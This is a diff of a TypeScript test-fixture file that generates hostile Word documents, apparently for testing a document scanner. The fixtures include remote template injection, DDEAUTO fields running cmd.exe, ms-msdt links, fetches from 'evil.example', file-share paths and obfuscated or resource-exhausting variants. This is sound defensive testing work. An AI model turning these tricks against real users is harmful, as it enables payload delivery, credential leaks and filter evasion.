@@ -6,6 +6,12 @@ import {
   makeDocxWith,
   relationships,
   strict,
+  withBody,
+  withField,
+  withPart,
+  withRelation,
+  withText,
+  withTypes,
 } from '../make-docx.ts';
 import { compoundBytes, docText, zipBytes } from '../sample-files.ts';
 import { ambiguousDocx, harmfulTargets, linkingDocx } from './hostile-links.ts';
@@ -14,105 +20,87 @@ const external = (type: string, target: string, more: { mode?: string; namespace
   relationships({ type, target, mode: 'External', ...more });
 const template = (target: string) => external('attachedTemplate', target);
 const remote = 'https://templates.example/macros.dotm';
-const relationsOf = (type: string, target: string) =>
-  makeDocx({ 'word/_rels/document.xml.rels': external(type, target) });
-const withField = (...pieces: string[]) => makeDocx({ 'word/document.xml': documentOf(fieldOf(...pieces)) });
-const withText = (xml: string) => makeDocx({ 'word/document.xml': xml });
+const evil = 'https://evil.example';
+const withSettings = (content: string | Buffer) => withPart('word/_rels/settings.xml.rels', content);
+const withExternal = (type: string, target: string) => withRelation({ type, target, mode: 'External' });
 
 /** Word files with macros, embedded files or content from elsewhere. */
 export const activeDocx: Record<string, () => Buffer> = {
-  'a template from the web': () => makeDocx({ 'word/_rels/settings.xml.rels': template(remote) }),
-  'a template of a part with another name': () =>
-    makeDocx({ 'word/_rels/settings2.xml.rels': template(remote) }),
-  'a template of a part in capitals': () => makeDocx({ 'word/_rels/Settings.xml.RELS': template(remote) }),
-  'a template of a part in another folder': () => makeDocx({ 'a/_rels/b.xml.rels': template(remote) }),
-  'a template of an escaped part': () => makeDocx({ 'word/_rels/settings.xml.%72els': template(remote) }),
-  'a template behind backslashes': () => makeDocx({ 'word\\_rels\\settings.xml.rels': template(remote) }),
-  'a template on a file share': () =>
-    makeDocx({ 'word/_rels/settings.xml.rels': template('file:///\\\\server\\a.dotm') }),
-  'a template on a file share with a plain path': () =>
-    makeDocx({ 'word/_rels/settings.xml.rels': template('\\\\server\\a.dotm') }),
-  'a template with escaped letters': () =>
-    makeDocx({
-      'word/_rels/settings.xml.rels': template(remote).replace('attachedTemplate', 'attached&#84;emplate'),
-    }),
-  'a template in the strict namespace': () =>
-    makeDocx({ 'word/_rels/settings.xml.rels': external('attachedTemplate', remote, { namespace: strict }) }),
-  'a template that does not say it is external': () =>
-    makeDocx({ 'word/_rels/settings.xml.rels': relationships({ type: 'attachedTemplate', target: remote }) }),
-  'a template in capitals': () =>
-    makeDocx({ 'word/_rels/settings.xml.rels': external('ATTACHEDTEMPLATE', remote, { mode: 'EXTERNAL' }) }),
-  'a template in two bytes a letter': () =>
-    makeDocx({
-      'word/_rels/settings.xml.rels': Buffer.from(
-        `\ufeff${template(remote).replace('UTF-8', 'UTF-16')}`,
-        'utf16le',
-      ),
-    }),
-  'a picture from the web': () => relationsOf('image', 'https://evil.example/a.png'),
-  'an object from the web': () => relationsOf('oleObject', 'https://evil.example/a.html!'),
-  'a frame': () => relationsOf('frame', 'https://evil.example/a.docx'),
-  'a document that is merged in': () => relationsOf('subDocument', 'a.docx'),
-  'a link to a file share': () => relationsOf('hyperlink', 'file://server/share'),
-  'a link to a program': () => relationsOf('hyperlink', 'ms-msdt:/id'),
+  'a template from the web': withSettings(template(remote)),
+  'a template of a part with another name': withPart('word/_rels/settings2.xml.rels', template(remote)),
+  'a template of a part in capitals': withPart('word/_rels/Settings.xml.RELS', template(remote)),
+  'a template of a part in another folder': withPart('a/_rels/b.xml.rels', template(remote)),
+  'a template of an escaped part': withPart('word/_rels/settings.xml.%72els', template(remote)),
+  'a template behind backslashes': withPart('word\\_rels\\settings.xml.rels', template(remote)),
+  'a template on a file share': withSettings(template('file:///\\\\server\\a.dotm')),
+  'a template on a file share with a plain path': withSettings(template('\\\\server\\a.dotm')),
+  'a template with escaped letters': withSettings(
+    template(remote).replace('attachedTemplate', 'attached&#84;emplate'),
+  ),
+  'a template in the strict namespace': withSettings(
+    external('attachedTemplate', remote, { namespace: strict }),
+  ),
+  'a template that does not say it is external': withSettings(
+    relationships({ type: 'attachedTemplate', target: remote }),
+  ),
+  'a template in capitals': withSettings(external('ATTACHEDTEMPLATE', remote, { mode: 'EXTERNAL' })),
+  'a template in two bytes a letter': withSettings(
+    Buffer.from(`\ufeff${template(remote).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
+  ),
+  'a picture from the web': withExternal('image', `${evil}/a.png`),
+  'an object from the web': withExternal('oleObject', `${evil}/a.html!`),
+  'a frame': withExternal('frame', `${evil}/a.docx`),
+  'a document that is merged in': withExternal('subDocument', 'a.docx'),
+  'a link to a file share': withExternal('hyperlink', 'file://server/share'),
+  'a link to a program': withExternal('hyperlink', 'ms-msdt:/id'),
   'a chunk of another format': () =>
     makeDocx({
       'word/_rels/document.xml.rels': relationships({ type: 'aFChunk', target: 'chunk.xml' }),
       'word/chunk.xml': '<html/>',
     }),
-  'a chunk without a relationship': () => withText(documentOf('<w:altChunk r:id="rId9"/>')),
+  'a chunk without a relationship': withBody('<w:altChunk r:id="rId9"/>'),
   'an embedded object': () =>
     makeDocx({
       'word/_rels/document.xml.rels': relationships({ type: 'oleObject', target: 'media/a.jpeg' }),
       'word/media/a.jpeg': 'x',
     }),
-  'an embedded workbook': () => makeDocx({ 'word/embeddings/sheet.xlsx': 'x' }),
-  'an embedded package': () => makeDocx({ 'word/embeddings/oleObject1.bin': 'x' }),
-  'a control': () => makeDocx({ 'word/activeX/activeX1.bin': 'x' }),
-  'a control without a part': () => withText(documentOf('<w:control r:id="rId9"/>')),
-  macros: () => makeDocx({ 'word/vbaProject.bin': 'x' }),
-  'macros with another name': () =>
-    makeDocx({
-      '[Content_Types].xml': contentTypes(
-        '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>',
-      ),
-    }),
-  'macros with escaped letters': () =>
-    makeDocx({
-      '[Content_Types].xml': contentTypes(
-        '<Default Extension="png" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
-      ),
-    }),
-  'the type of a document with macros': () =>
-    makeDocx({
-      '[Content_Types].xml': contentTypes().replace(
-        'wordprocessingml.document',
-        'word.document.macroEnabled',
-      ),
-    }),
+  'an embedded workbook': withPart('word/embeddings/sheet.xlsx', 'x'),
+  'an embedded package': withPart('word/embeddings/oleObject1.bin', 'x'),
+  'a control': withPart('word/activeX/activeX1.bin', 'x'),
+  'a control without a part': withBody('<w:control r:id="rId9"/>'),
+  macros: withPart('word/vbaProject.bin', 'x'),
+  'macros with another name': withTypes(
+    '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>',
+  ),
+  'macros with escaped letters': withTypes(
+    '<Default Extension="png" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
+  ),
+  'the type of a document with macros': withPart(
+    '[Content_Types].xml',
+    contentTypes().replace('wordprocessingml.document', 'word.document.macroEnabled'),
+  ),
   ...Object.fromEntries(
     ['exe', 'js', 'vbs', 'ps1', 'hta', 'lnk', 'scr', 'bat', 'jar', 'html', 'docm', 'EXE'].map((extension) => [
       `a .${extension}`,
-      () => makeDocx({ [`word/media/a.${extension}`]: 'x' }),
+      withPart(`word/media/a.${extension}`, 'x'),
     ]),
   ),
-  'a field that starts a program': () => withField(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
-  'such a field in pieces': () => withField('D', 'DE', 'AUTO', ' cmd'),
-  'such a field in one element': () => withText(documentOf('<w:fldSimple w:instr=" dde cmd a"/>')),
-  'such a field in other letters': () =>
-    withText(documentOf(fieldOf('X cmd')).replace('X cmd', '&#68;DE cmd')),
-  'such a field in a header': () => makeDocx({ 'word/header1.xml': documentOf(fieldOf('DDE cmd')) }),
-  'such a field in the result of another': () => withField('PAGE', fieldOf('DDE cmd')),
-  'such a field with a name that a field makes': () => withField(fieldOf('QUOTE 68 68 69'), ' cmd'),
-  'a field with text from the web': () => withField('INCLUDETEXT "https://evil.example/a.docx"'),
-  'a field with a picture from the web': () => withField('INCLUDEPICTURE "https://evil.example/a.png" \\d'),
-  'a field with a picture from a file share': () => withField('INCLUDEPICTURE "\\\\server\\a.png"'),
-  'a field with a picture whose address a field makes': () =>
-    withField('INCLUDEPICTURE ', fieldOf('QUOTE 1')),
-  'a drawing with a picture from the web': () =>
-    withText(documentOf('<v:imagedata xmlns:v="urn:v" src="https://evil.example/a.png"/>')),
-  'a merge with a database': () =>
-    makeDocx({ 'word/settings.xml': '<w:settings xmlns:w="urn:w"><w:mailMerge/></w:settings>' }),
+  'a field that starts a program': withField(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
+  'such a field in pieces': withField('D', 'DE', 'AUTO', ' cmd'),
+  'such a field in one element': withBody('<w:fldSimple w:instr=" dde cmd a"/>'),
+  'such a field in other letters': withField('&#68;DE cmd'),
+  'such a field in a header': withPart('word/header1.xml', documentOf(fieldOf('DDE cmd'))),
+  'such a field in the result of another': withField('PAGE', fieldOf('DDE cmd')),
+  'such a field with a name that a field makes': withField(fieldOf('QUOTE 68 68 69'), ' cmd'),
+  'a field with text from the web': withField(`INCLUDETEXT "${evil}/a.docx"`),
+  'a field with a picture from the web': withField(`INCLUDEPICTURE "${evil}/a.png" \\d`),
+  'a field with a picture from a file share': withField('INCLUDEPICTURE "\\\\server\\a.png"'),
+  'a field with a picture whose address a field makes': withField('INCLUDEPICTURE ', fieldOf('QUOTE 1')),
+  'a drawing with a picture from the web': withBody(`<v:imagedata xmlns:v="urn:v" src="${evil}/a.png"/>`),
+  'a merge with a database': withPart(
+    'word/settings.xml',
+    '<w:settings xmlns:w="urn:w"><w:mailMerge/></w:settings>',
+  ),
   ...linkingDocx,
 };
 
@@ -126,27 +114,25 @@ export const unreadableDocx: Record<string, () => Buffer> = {
     bytes.write('word/bbbb.xml', bytes.indexOf('word/aaaa.xml'));
     return bytes;
   },
-  'a part outside of the archive': () => makeDocx({ '../a.xml': '<a/>' }),
-  entities: () => withText('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
-  'entities from elsewhere': () => withText('<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>'),
-  'an entity that nothing declares': () => withText('<a>&b;</a>'),
-  'broken relationships': () => makeDocx({ 'word/_rels/document.xml.rels': '<Relationships>' }),
-  'an unusual encoding': () => withText('<?xml version="1.0" encoding="UTF-7"?><a/>'),
+  'a part outside of the archive': withPart('../a.xml', '<a/>'),
+  entities: withText('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
+  'entities from elsewhere': withText('<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>'),
+  'an entity that nothing declares': withText('<a>&b;</a>'),
+  'broken relationships': withPart('word/_rels/document.xml.rels', '<Relationships>'),
+  'an unusual encoding': withText('<?xml version="1.0" encoding="UTF-7"?><a/>'),
   'text in a picture': () =>
     makeDocx({
       '[Content_Types].xml': contentTypes('<Override PartName="/word/a.png" ContentType="application/xml"/>'),
       'word/a.png': '<a/>',
     }),
-  'deep nesting': () => withText('<a>'.repeat(200_000) + '</a>'.repeat(200_000)),
-  'millions of elements': () => withText(`<a>${'<a/>'.repeat(2_000_000)}</a>`),
+  'deep nesting': () => withText('<a>'.repeat(200_000) + '</a>'.repeat(200_000))(),
+  'millions of elements': () => withText(`<a>${'<a/>'.repeat(2_000_000)}</a>`)(),
   'hundreds of thousands of attributes': () =>
-    withText(`<a${Array.from({ length: 700_000 }, (_, at) => ` a${at}=""`).join('')}/>`),
+    withText(`<a${Array.from({ length: 700_000 }, (_, at) => ` a${at}=""`).join('')}/>`)(),
   'a long field with many marks': () =>
-    withText(
-      documentOf(
-        `<w:fldChar w:fldCharType="begin"/><w:instrText>${'a '.repeat(500_000)}</w:instrText>${'<w:fldChar w:fldCharType="x"/>'.repeat(20_000)}`,
-      ),
-    ),
+    withBody(
+      `<w:fldChar w:fldCharType="begin"/><w:instrText>${'a '.repeat(500_000)}</w:instrText>${'<w:fldChar w:fldCharType="x"/>'.repeat(20_000)}`,
+    )(),
   'thousands of parts': () =>
     makeDocx(Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`word/${at}.xml`, '<a/>']))),
   gigabytes: () => {
@@ -162,6 +148,10 @@ export const unreadableDocx: Record<string, () => Buffer> = {
 };
 
 const doc = (streams: Record<string, Buffer>) => () => compoundBytes({ WordDocument: docText(), ...streams });
+const docWith = (text: string) => doc({ WordDocument: docText(text) });
+/** Text in two bytes a letter, after some in one. */
+const wideDoc = (text: string) =>
+  doc({ WordDocument: Buffer.concat([docText(), Buffer.from(text, 'utf16le')]) });
 const content = Buffer.from('content');
 
 export const activeDoc: Record<string, () => Buffer> = {
@@ -172,28 +162,17 @@ export const activeDoc: Record<string, () => Buffer> = {
   'an embedded package': doc({ 'ObjectPool/_1234/\x01Ole10Native': content }),
   'an embedded document': doc({ 'ObjectPool/_1234/Package': content }),
   'an embedded object': doc({ 'ObjectPool/_1234/CONTENTS': content }),
-  'a field that starts a program': () =>
-    compoundBytes({ WordDocument: docText('\x13 DDEAUTO cmd \x14\x15') }),
-  'such a field in two bytes a letter': () =>
-    compoundBytes({ WordDocument: Buffer.concat([docText(), Buffer.from('\x13DDE cmd', 'utf16le')]) }),
+  'a field that starts a program': docWith('\x13 DDEAUTO cmd \x14\x15'),
+  'such a field in two bytes a letter': wideDoc('\x13DDE cmd'),
   ...Object.fromEntries(
     Object.entries(harmfulTargets).flatMap(([name, target]) => [
-      [
-        `a field that links to ${name}`,
-        doc({ WordDocument: docText(`\x13 HYPERLINK "${target}" \x01\x14a\x15`) }),
-      ],
+      [`a field that links to ${name}`, docWith(`\x13 HYPERLINK "${target}" \x01\x14a\x15`)],
       [`a stored link to ${name}`, doc({ Data: storedLink(target) })],
     ]),
   ),
-  'a link in two bytes a letter': doc({
-    WordDocument: Buffer.concat([docText(), Buffer.from('\x13HYPERLINK "ms-msdt:/id"\x14\x15', 'utf16le')]),
-  }),
-  'a link whose address a field makes': doc({
-    WordDocument: docText('\x13 HYPERLINK "\x13 QUOTE 92 92 \x14\x15" \x14\x15'),
-  }),
-  'a picture from the web': doc({
-    WordDocument: docText('\x13 INCLUDEPICTURE \\d "https://evil.example/a.png" \x14\x15'),
-  }),
+  'a link in two bytes a letter': wideDoc('\x13HYPERLINK "ms-msdt:/id"\x14\x15'),
+  'a link whose address a field makes': docWith('\x13 HYPERLINK "\x13 QUOTE 92 92 \x14\x15" \x14\x15'),
+  'a picture from the web': docWith(`\x13 INCLUDEPICTURE \\d "${evil}/a.png" \x14\x15`),
   'a stored link to a file': doc({ Data: Buffer.from('0303000000000000c000000000000046', 'hex') }),
   'a stored link as text': doc({
     Data: Buffer.from('d0c9ea79f9bace118c8200aa004ba90b0200000003010000', 'hex'),
